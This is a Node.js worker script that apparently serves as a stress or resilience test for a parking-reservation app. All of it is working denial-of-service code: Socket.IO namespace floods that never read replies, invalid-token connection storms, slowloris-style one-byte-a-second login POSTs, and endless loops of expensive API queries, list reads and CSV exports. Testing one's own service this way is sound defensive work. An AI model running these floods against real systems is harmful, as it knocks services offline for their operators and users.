// One attacker, in a thread of its own, from an address of its own, until the thread is ended.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';

const { attack, url, connections, token, ownerToken, localAddress } = workerData;
const { hostname, port } = new URL(url);
const AT_ONCE = 50;
/** Clients of one account that has much to list. */
const CLIENTS = 12;
const DAY_MS = 24 * 3_600_000;

/** Opens a connection again whenever it ends, a moment later. */
function again(open) {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(() => again(open), 50));
  socket.on('connect', () => open(socket));
}

/** A frame of a WebSocket as a client sends it, masked with zeros. */
function frame(text) {
  const length = Buffer.byteLength(text);
  const head =
    length < 126 ? [0x81, 0x80 | length] : [0x81, 0x80 | 126, length >> 8, length & 0xff];
  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), Buffer.from(text)]);
}

const UPGRADE = [
  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
  `host: ${hostname}:${port}`,
  'connection: upgrade',
  'upgrade: websocket',
  'sec-websocket-version: 13',
  'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
  '',
  '',
].join('\r\n');

/** Asks for unknown namespaces as fast as the connection takes it, and never reads an answer. */
function neverRead(greeting) {
  again((socket) => {
    const flood = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));
    socket.pause();
    socket.write(UPGRADE);
    if (greeting) socket.write(frame(greeting));
    const pour = () => {
      while (!socket.destroyed && socket.write(flood));
    };
    socket.on('drain', pour);
    setTimeout(pour, 200);
  });
}

/** Sends an invalid token, waits for the refusal and connects again. */
function junkToken(socket) {
  socket.write(UPGRADE);
  socket.write(frame('40{"token":"x.y.z"}'));
  let received = '';
  socket.on('data', (chunk) => {
    received += chunk;
    // Socket.IO's refusal of the connection.
    if (received.includes('44{')) socket.destroy();
  });
}

/** Asks for one unknown namespace after the other, reads the answers, and connects again. */
function nameNamespaces(socket) {
  const flood = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));
  socket.resume();
  socket.write(UPGRADE);
  const pour = () => {
    while (!socket.destroyed && socket.write(flood));
  };
  socket.on('drain', pour);
  pour();
}

/** Sends the headers of a login and then one byte a second. */
function slowPost(socket) {
  socket.write(
    `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
  );
  const timer = setInterval(() => socket.write(' '), 1000);
  socket.on('close', () => clearInterval(timer));
}

/** Asks for the most parkings, for the longest stay, sorted, and reads the whole answer. */
async function expensiveCalls(agent) {
  const from = new Date(Date.now() + DAY_MS);
  const query = new URLSearchParams({
    near: '14.6,-90.5',
    start_time: from.toISOString(),
    end_time: new Date(from.getTime() + 30 * DAY_MS).toISOString(),
    search: 'a e q u v 0',
  });
  const words = new URLSearchParams(query);
  query.delete('search');
  for (let n = 0; ; n += 1) {
    await new Promise((done) => {
      const sent = request(
        `${url}/api/parking/available?${n % 2 ? query : words}`,
        { agent, localAddress, headers: { authorization: token } },
        (answer) => answer.resume().on('close', done),
      );
      sent.on('error', done);
      sent.end();
    });
  }
}

/** Every list that a driver, or an owner, can be given, one after the other, read in whole. */
const LISTS = {
  driver: ['documents/confirmaciones', 'documents/booking', 'documents/parkings'],
  owner: ['parking/reservations', 'parking/reservations?page=5', 'parking/my-parkings'],
};

async function readLists(agent, paths, headers) {
  for (let n = 0; ; n += 1)
    await new Promise((done) => {
      const sent = request(
        `${url}/api/${paths[n % paths.length]}`,
        { agent, localAddress, headers: { 'accept-encoding': 'br', ...headers } },
        (answer) => answer.resume().on('close', done),
      );
      sent.on('error', done);
      sent.end();
    });
}

if (attack === 'sockets') {
  for (let n = 0; n < 20; n += 1) neverRead(`40${JSON.stringify({ token })}`);
  for (let n = 0; n < 100; n += 1) neverRead(null);
} else if (attack === 'junk') {
  for (let n = 0; n < connections; n += 1) again(junkToken);
} else if (attack === 'namespaces') {
  for (let n = 0; n < AT_ONCE; n += 1) again(nameNamespaces);
} else if (attack === 'slow') {
  for (let n = 0; n < connections; n += 1) again(slowPost);
} else if (attack === 'lists' || attack === 'sheets') {
  const agent = new Agent({ keepAlive: true });
  const [paths, authorization] =
    attack === 'lists' ? [LISTS.driver, token] : [LISTS.owner, ownerToken];
  for (let n = 0; n < CLIENTS; n += 1) void readLists(agent, paths, { authorization });
  // No more spreadsheets are given at once.
  const spreadsheets = attack === 'sheets' ? 2 : 0;
  for (let n = 0; n < spreadsheets; n += 1)
    void readLists(agent, ['parking/reservations'], { authorization, accept: 'text/csv' });
} else {
  const agent = new Agent({ keepAlive: true });
  for (let n = 0; n < AT_ONCE; n += 1) void expensiveCalls(agent);
}
